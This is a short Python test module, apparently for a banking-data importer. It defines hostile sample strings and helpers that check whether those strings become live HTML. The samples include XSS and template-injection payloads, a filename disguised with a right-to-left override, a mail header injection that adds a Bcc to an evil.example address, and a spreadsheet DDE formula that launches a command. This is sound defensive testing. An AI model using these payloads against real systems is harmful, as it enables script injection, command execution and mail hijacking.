"""Strings that a bank may send and that nobody should carry out."""

import re

from lxml import etree, html

SCRIPT = "<script>window.pwned=1</script>"
IMAGE = '"><img src=x onerror="window.pwned=2">'
TEMPLATE = "{{ 7*7 }}<t t-out=\"7*7\"/><a href='javascript:window.pwned=3'>x</a>"
# A word that runs backwards, and a header of a mail that is none.
TURNED = "\u202etxt.exe"
HEADER = "\r\nBcc: stolen@evil.example\r\nBEGIN:VALARM\r\n"
FORMULA = "=cmd|' /C calc'!A0"
HOSTILE = f"{SCRIPT}{IMAGE}{TEMPLATE}{TURNED}"
MARK = "window.pwned"


def carried_out(text):
    """What of the strings has become more than text in some HTML.

    :rtype: list[str]
    """
    tree = html.fromstring(f"<div>{text}</div>")
    found = [
        etree.tostring(each, encoding="unicode")[:200]
        for each in tree.iter("script", "img", "iframe", "object", "t")
        if MARK in (each.text or "") or each.get("src") == "x" or each.tag == "t"
    ]
    for each in tree.iter():
        for name, value in each.attrib.items():
            runs = name.startswith("on") or value.strip().startswith("javascript")
            if runs and MARK in value:
                found.append(f"{each.tag} {name}={value}"[:200])
    return found


def as_read(text):
    """The text of some HTML, as a person reads it."""
    return re.sub(r"\s+", " ", html.fromstring(f"<div>{text}</div>").text_content())
